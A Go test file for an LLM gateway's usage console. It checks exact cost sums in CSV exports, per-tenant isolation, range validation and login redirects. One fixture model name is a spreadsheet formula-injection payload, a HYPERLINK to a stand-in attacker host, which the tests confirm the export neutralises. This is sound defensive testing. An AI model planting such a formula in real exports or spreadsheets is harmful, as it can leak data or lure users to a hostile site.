package console_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/loom-gateway/loom/proxy/rollup"
)

// usageAttempt is one CLIENT span of a usage call: an upstream attempt.
type usageAttempt struct {
	failed                    bool
	in, out, cached, reasoned int64  // 0: not reported (NULL)
	cost, currency            string // "": no price
}

// usageCall is a SERVER span (route, tenant, key, model) with its
// attempts, the last one serving.
type usageCall struct {
	at                 time.Duration // after the window's start
	route              string        // "": /v1/chat/completions
	tenant, key, model string
	attempts           []usageAttempt
}

// usageModels are the usage window's models; the one starting with = is
// a formula a spreadsheet would run, with a comma and quotes for the CSV's
// quoting.
const (
	modelPriced   = "m-priced"
	modelUnpriced = "m-unpriced"
	modelFailover = "m-failover"
	modelFormula  = `=HYPERLINK("http://evil.example/?x", "click")`
)

// usageWindow is the start of the usage tests' hours, 36 hours back (a
// whole hour, in the fixture's partitions and clear of its own calls).
func usageWindow() time.Time { return time.Now().UTC().Truncate(time.Hour).Add(-36 * time.Hour) }

// seedUsage adds, in the three hours from usageWindow(): acme's calls
// priced at 0.1 and 0.2 USD (one hour), an unpriced one, a failed-over one
// whose failed attempt claims tokens it never served (the next hour), a
// call by a second key with a formula for a model, a GET /v1/models; and
// globex's calls priced 1234.5 USD and 0.5 EUR.
func seedUsage(t *testing.T, pool *pgxpool.Pool) time.Time {
	t.Helper()
	w := usageWindow()
	calls := []usageCall{
		{at: 5 * time.Minute, tenant: "acme", key: "acme-key", model: modelPriced,
			attempts: []usageAttempt{{in: 100, out: 10, cached: 40, cost: "0.1", currency: "USD"}}},
		{at: 20 * time.Minute, tenant: "acme", key: "acme-key", model: modelPriced,
			attempts: []usageAttempt{{in: 200, out: 20, reasoned: 5, cost: "0.2", currency: "USD"}}},
		{at: 30 * time.Minute, tenant: "acme", key: "acme-key", model: modelUnpriced,
			attempts: []usageAttempt{{in: 50, out: 5}}},
		{at: 70 * time.Minute, tenant: "acme", key: "acme-key", model: modelFailover,
			attempts: []usageAttempt{{failed: true, in: 9999, out: 9999}, {in: 10, out: 1, cost: "0.000171", currency: "USD"}}},
		{at: 80 * time.Minute, tenant: "acme", key: "acme-key-2", model: modelFormula,
			attempts: []usageAttempt{{in: 1, out: 1}}},
		{at: 90 * time.Minute, route: "/v1/models", tenant: "acme", key: "acme-key"},
		{at: 100 * time.Minute, tenant: "globex", key: "globex-key", model: modelB,
			attempts: []usageAttempt{{in: 1000, out: 100, cost: "1234.5", currency: "USD"}}},
		{at: 110 * time.Minute, tenant: "globex", key: "globex-key", model: modelB,
			attempts: []usageAttempt{{in: 7, out: 3, cost: "0.5", currency: "EUR"}}},
	}
	for _, c := range calls {
		insertUsageCall(t, pool, w.Add(c.at), c)
	}
	return w
}

func insertUsageCall(t *testing.T, pool *pgxpool.Pool, start time.Time, c usageCall) {
	t.Helper()
	ctx := t.Context()
	route, method := c.route, "POST"
	if route == "" {
		route = "/v1/chat/completions"
	}
	if strings.HasPrefix(route, "/v1/models") {
		method = "GET"
	}
	trace, server := hexID(16), hexID(8)
	// The gateway writes the attempt count on a call that failed over.
	attempts := "{}"
	if len(c.attempts) > 1 {
		attempts = fmt.Sprintf(`{"loom.upstream.attempts": %d}`, len(c.attempts))
	}
	_, err := pool.Exec(ctx, `
INSERT INTO loom.spans (trace_id, span_id, start_time, end_time, duration_ms, name, kind, status_code, tenant_id,
    api_key_id, request_model, http_status, attributes)
VALUES ($1, $2, $3::timestamptz, $3::timestamptz + interval '1 second', 1000, $4, 'server', 'unset', $5, $6, nullif($7, ''), 200,
    jsonb_build_object('http.route', $8::text) || $9::jsonb)`,
		trace, server, start, method+" "+route, c.tenant, c.key, c.model, route, attempts)
	if err != nil {
		t.Fatal(err)
	}
	for i, a := range c.attempts {
		status, errType := "unset", any(nil)
		if a.failed {
			status, errType = "error", "upstream_failed"
		}
		opt := func(v int64) any {
			if v == 0 {
				return nil
			}
			return v
		}
		_, err := pool.Exec(ctx, `
INSERT INTO loom.spans (trace_id, span_id, parent_span_id, start_time, end_time, name, kind, status_code, tenant_id,
    api_key_id, operation, request_model, input_tokens, output_tokens, cache_read_tokens, reasoning_tokens,
    cost, cost_currency, upstream_attempt, error_type)
VALUES ($1, $2, $3, $4::timestamptz, $4::timestamptz + interval '500 milliseconds', 'chat ' || $7, 'client', $5, $6, $8, 'chat', $7, $9, $10,
    $11, $12, nullif($13, '')::numeric, nullif($14, ''), $15, $16)`,
			trace, hexID(8), server, start.Add(time.Duration(i+1)*time.Millisecond), status, c.tenant, c.model, c.key,
			opt(a.in), opt(a.out), opt(a.cached), opt(a.reasoned), a.cost, a.currency, i+1, errType)
		if err != nil {
			t.Fatal(err)
		}
	}
}

// usageURL is a usage path over the window's three hours.
func usageURL(path string, w time.Time, params ...string) string {
	v := url.Values{"range": {"custom"}, "from": {w.Format("2006-01-02T15:04")},
		"to": {w.Add(3 * time.Hour).Format("2006-01-02T15:04")}}
	for i := 0; i+1 < len(params); i += 2 {
		v.Set(params[i], params[i+1])
	}
	return path + "?" + v.Encode()
}

// readCSV parses an export, header first.
func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, body)
	}
	if len(recs) == 0 {
		t.Fatal("an empty export: not even the header")
	}
	return recs
}

// usageHeader is the export's header row.
var usageHeader = []string{"bucket_start_utc", "", "calls", "unpriced_calls", "input_tokens", "output_tokens",
	"cached_input_tokens", "reasoning_tokens", "cost", "currency"}

// csvRows keys an export's rows by bucket, group and currency.
func csvRows(t *testing.T, group string, recs [][]string) map[string][]string {
	t.Helper()
	want := slices.Clone(usageHeader)
	want[1] = group
	if !slices.Equal(recs[0], want) {
		t.Fatalf("header %q, want %q", recs[0], want)
	}
	out := map[string][]string{}
	for _, r := range recs[1:] {
		out[r[0]+"|"+r[1]+"|"+r[9]] = r
	}
	return out
}

func TestUsage(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	w := seedUsage(t, f.pool)
	admin := newClient(t, f.URL)
	if code := admin.login(adminToken); code != http.StatusSeeOther {
		t.Fatalf("admin login: %d", code)
	}

	// Each check twice: with every hour read from the spans (marked by
	// their writes), then with the whole hours from the rollup. They must
	// agree to the last digit.
	for _, phase := range []string{"live", "rolled up"} {
		if phase == "rolled up" {
			if n, err := rollup.Refresh(t.Context(), f.pool, time.Now()); err != nil || n == 0 {
				t.Fatalf("refresh: %d hours, %v", n, err)
			}
			var marked int
			if err := f.pool.QueryRow(t.Context(), `SELECT count(*) FROM loom.usage_dirty WHERE hour >= $1 AND hour < $2`,
				w, w.Add(3*time.Hour)).Scan(&marked); err != nil || marked != 0 {
				t.Fatalf("the window's hours still marked after a refresh: %d, %v", marked, err)
			}
		}
		t.Run(phase, func(t *testing.T) { usagePageChecks(t, f, admin, w) })
	}
}

// usagePageChecks are TestUsage's checks over seedUsage's window.
func usagePageChecks(t *testing.T, f *fixture, admin *client, w time.Time) {
	h0, h1 := w.Format(time.RFC3339), w.Add(time.Hour).Format(time.RFC3339)
	t.Run("CSV_SumsCostExactly_PerBucketGroupAndCurrency", func(t *testing.T) {
		code, body, resp := admin.do("GET", usageURL("/console/usage.csv", w, "group", "model", "granularity", "hour"), nil)
		if code != http.StatusOK {
			t.Fatalf("csv: %d %s", code, body)
		}
		if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("Content-Type %q", ct)
		}
		wantName := `attachment; filename="loom-usage-by-model-hour-` + w.Format("20060102T1504Z") + "-" +
			w.Add(3*time.Hour).Format("20060102T1504Z") + `.csv"`
		if cd := resp.Header.Get("Content-Disposition"); cd != wantName {
			t.Errorf("Content-Disposition %q, want %q", cd, wantName)
		}
		rows := csvRows(t, "model", readCSV(t, body))
		for key, want := range map[string][]string{
			// 0.1 + 0.2 is 0.3, exactly: summed as numeric, never as floats.
			h0 + "|" + modelPriced + "|USD": {h0, modelPriced, "2", "0", "300", "30", "40", "5", "0.3", "USD"},
			// Usage but no price: unpriced, no cost (not 0).
			h0 + "|" + modelUnpriced + "|": {h0, modelUnpriced, "1", "1", "50", "5", "", "", "", ""},
			// The failed attempt's tokens are not counted, nor is the call twice.
			h1 + "|" + modelFailover + "|USD": {h1, modelFailover, "1", "0", "10", "1", "", "", "0.000171", "USD"},
			h1 + "|" + modelB + "|USD":        {h1, modelB, "1", "0", "1000", "100", "", "", "1234.5", "USD"},
			h1 + "|" + modelB + "|EUR":        {h1, modelB, "1", "0", "7", "3", "", "", "0.5", "EUR"},
		} {
			if got := rows[key]; !slices.Equal(got, want) {
				t.Errorf("row %s: %q, want %q", key, got, want)
			}
		}
		// Eight SERVER spans, one of them a GET /v1/models: seven calls.
		n := 0
		for _, r := range rows {
			if r[1] == "" {
				t.Errorf("a row without a model (the /v1/models request?): %q", r)
			}
			n += atoi(t, r[2])
		}
		if n != 7 {
			t.Errorf("%d calls in the export, want 7 (GET /v1/models is not a call)", n)
		}
	})

	t.Run("CSV_NeutralisesFormulasAndQuotes", func(t *testing.T) {
		_, body, _ := admin.do("GET", usageURL("/console/usage.csv", w, "group", "model"), nil)
		rows := csvRows(t, "model", readCSV(t, body))
		key := h1 + "|'" + modelFormula + "|"
		if r := rows[key]; r == nil || r[2] != "1" || r[3] != "1" {
			t.Errorf("the formula model's row %q: want it as text with a leading apostrophe; rows %q", r, rows)
		}
		// The comma and the quotes are quoted, the quotes doubled.
		if want := `,"'=HYPERLINK(""http://evil.example/?x"", ""click"")",`; !strings.Contains(body, want) {
			t.Errorf("the export lacks %s:\n%s", want, body)
		}
	})

	t.Run("Page_GroupsByTenant_WithTotalsFormattedForPeople", func(t *testing.T) {
		code, body, _ := admin.do("GET", usageURL("/console/usage", w, "group", "tenant"), nil)
		if code != http.StatusOK {
			t.Fatalf("page: %d\n%s", code, body)
		}
		acme, globex, total := rowText(t, body, `data-group="acme"`), rowText(t, body, `data-group="globex"`), rowText(t, body, `id="usage-total"`)
		for _, c := range []struct{ row, want string }{
			// 0.1 + 0.2 + 0.000171, every digit kept.
			{acme, "acme|5|2|361|37|40|5|0.300171 USD"},
			{globex, "globex|2|0|1,007|103|–|–|0.50 EUR 1,234.50 USD"},
			{total, "Total|7|2|1,368|140|40|5|0.50 EUR 1,234.800171 USD"},
		} {
			if c.row != c.want {
				t.Errorf("row %q, want %q", c.row, c.want)
			}
		}
		for _, s := range []string{`id="usage-unpriced"`, `id="usage-chart-spend"`, `id="usage-chart-tokens"`, `class="usage-hover"`, "time (UTC)"} {
			if !strings.Contains(body, s) {
				t.Errorf("the page lacks %s", s)
			}
		}
	})

	t.Run("Page_GroupsByKeyAndModel", func(t *testing.T) {
		_, body, _ := admin.do("GET", usageURL("/console/usage", w, "group", "key", "tenant", "acme"), nil)
		if got := rowText(t, body, `data-group="acme-key-2"`); got != "acme-key-2|1|1|1|1|–|–|–" {
			t.Errorf("acme-key-2: %q", got)
		}
		if got := rowText(t, body, `data-group="acme-key"`); got != "acme-key|4|1|360|36|40|5|0.300171 USD" {
			t.Errorf("acme-key: %q", got)
		}
		if strings.Contains(body, "globex") {
			t.Error("the admin's one-tenant view shows globex")
		}
		_, body, _ = admin.do("GET", usageURL("/console/usage", w, "group", "model", "granularity", "day"), nil)
		if got := rowText(t, body, `data-group="`+modelPriced+`"`); got != modelPriced+"|2|0|300|30|40|5|0.30 USD" {
			t.Errorf("%s: %q", modelPriced, got)
		}
	})

	t.Run("TenantSession_SeesOnlyItsOwnUsage", func(t *testing.T) {
		c := newClient(t, f.URL)
		if code := c.login(keyA); code != http.StatusSeeOther {
			t.Fatalf("login A: %d", code)
		}
		// Asking for globex, grouped by tenant, changes nothing: row-level
		// security confines the session.
		for _, p := range []string{
			usageURL("/console/usage", w, "group", "tenant", "tenant", "globex"),
			usageURL("/console/usage", w, "group", "model"),
			usageURL("/console/usage.csv", w, "group", "tenant", "tenant", "globex"),
			usageURL("/console/usage.csv", w, "group", "key"),
			usageURL("/console/usage.csv", w, "group", "model"),
		} {
			code, body, _ := c.do("GET", p, nil)
			if code != http.StatusOK {
				t.Fatalf("%s: %d\n%s", p, code, body)
			}
			for _, s := range []string{"globex", modelB, "1234.5", "1,234", "EUR"} {
				if strings.Contains(body, s) {
					t.Errorf("%s shows globex's %s", p, s)
				}
			}
			if !strings.Contains(body, "acme") && !strings.Contains(body, modelPriced) {
				t.Errorf("%s shows nothing of acme's:\n%s", p, body)
			}
		}
		_, body, _ := c.do("GET", usageURL("/console/usage", w, "group", "tenant"), nil)
		if got := rowText(t, body, `id="usage-total"`); got != "Total|5|2|361|37|40|5|0.300171 USD" {
			t.Errorf("acme's total: %q", got)
		}
		if strings.Contains(body, `<option value="tenant"`) {
			t.Error("a tenant session is offered grouping by tenant")
		}
	})

	t.Run("BadRanges_Are400WithAReason", func(t *testing.T) {
		day := func(d int) string { return w.Add(time.Duration(d) * 24 * time.Hour).Format("2006-01-02T15:04") }
		for _, c := range []struct {
			name string
			q    url.Values
			want string
		}{
			{"backwards", url.Values{"range": {"custom"}, "from": {day(1)}, "to": {day(0)}}, "must end after it starts"},
			{"too long", url.Values{"range": {"custom"}, "from": {day(-100)}, "to": {day(0)}, "granularity": {"day"}}, "at most 92 days"},
			{"hourly too long", url.Values{"range": {"custom"}, "from": {day(-40)}, "to": {day(0)}, "granularity": {"hour"}}, "choose day"},
			{"not a time", url.Values{"range": {"custom"}, "from": {"yesterday"}, "to": {day(0)}}, "from is not a time"},
			{"half a range", url.Values{"range": {"custom"}, "from": {day(0)}}, "needs both from and to"},
			{"future", url.Values{"range": {"custom"}, "from": {day(3)}, "to": {day(4)}}, "starts in the future"},
			{"unknown range", url.Values{"range": {"forever"}}, "range must be"},
			{"unknown group", url.Values{"group": {"provider"}}, "group must be"},
			{"unknown granularity", url.Values{"granularity": {"minute"}}, "granularity must be"},
			{"too long a value", url.Values{"tenant": {strings.Repeat("x", 200)}}, "too long"},
		} {
			for _, p := range []string{"/console/usage", "/console/usage.csv"} {
				code, body, _ := admin.do("GET", p+"?"+c.q.Encode(), nil)
				if code != http.StatusBadRequest || !strings.Contains(body, c.want) {
					t.Errorf("%s %s: %d, want 400 saying %q:\n%.400s", c.name, p, code, c.want, body)
				}
			}
		}
	})

	t.Run("NoSession_RedirectsToLogin", func(t *testing.T) {
		for _, p := range []string{"/console/usage", "/console/usage.csv"} {
			code, _, resp := newClient(t, f.URL).do("GET", p, nil)
			if code != http.StatusSeeOther || resp.Header.Get("Location") != "/console/login" {
				t.Errorf("GET %s without a session: %d to %q", p, code, resp.Header.Get("Location"))
			}
		}
	})
}

// rowText is the text of the table row holding marker: its cells joined
// by |, a cell's lines by a space.
func rowText(t *testing.T, body, marker string) string {
	t.Helper()
	i := strings.Index(body, marker)
	if i < 0 {
		t.Errorf("no row %s on the page", marker)
		return ""
	}
	row := body[i:]
	row = row[:strings.Index(row, "</tr>")]
	var cells []string
	for _, m := range usageCell.FindAllStringSubmatch(row, -1) {
		cells = append(cells, strings.ReplaceAll(m[1], "<br>", " "))
	}
	return strings.Join(cells, "|")
}

var usageCell = regexp.MustCompile(`<t[dh][^>]*>(.*?)</t[dh]>`)

func atoi(t *testing.T, s string) int {
	t.Helper()
	n := 0
	for _, d := range s {
		if d < '0' || d > '9' {
			t.Fatalf("%q is not a count", s)
		}
		n = n*10 + int(d-'0')
	}
	return n
}
